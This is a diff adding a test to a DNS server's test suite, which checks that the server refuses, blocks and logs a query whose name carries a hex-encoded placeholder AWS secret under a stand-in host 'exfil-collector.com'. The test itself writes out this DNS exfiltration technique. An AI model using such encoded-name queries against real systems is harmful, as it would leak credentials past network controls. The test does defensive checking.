@@ -162,6 +162,18 @@ describe("DNS server", () => {
     expect(r.ede).toContain("egress.not-allowed");
   }, T);
 
+  test("a name carrying encoded data is refused before it leaves, and the record does not repeat it", async () => {
+    const secret = Buffer.from("AKIAEXAMPLESECRET/aws_secret_access_key=wJalrXUtnFEMI").toString("hex");
+    const name = `${secret.slice(0, 60)}.${secret.slice(60, 104)}.exfil-collector.com`;
+    const r = await dig(dnsPort(sl), name, "TXT");
+    expect(r.status).toBe("NXDOMAIN");
+    expect(r.ede).toContain("dns.exfil-");
+    expect(fake.queries().some((q) => q.name.includes("exfil-collector.com"))).toBe(false);
+    const rec = await sl.waitForLine((l) => l.kind === "dns" && String(l.rule).startsWith("dns.exfil-"));
+    expect(rec.verdict).toBe("block");
+    expect(String(rec.detail)).not.toContain(secret.slice(0, 60));
+  }, T);
+
   test("thousands of malformed packets, then a normal query still works", async () => {
     const port = dnsPort(sl);
     const sock = await Bun.udpSocket({ port: 0 });
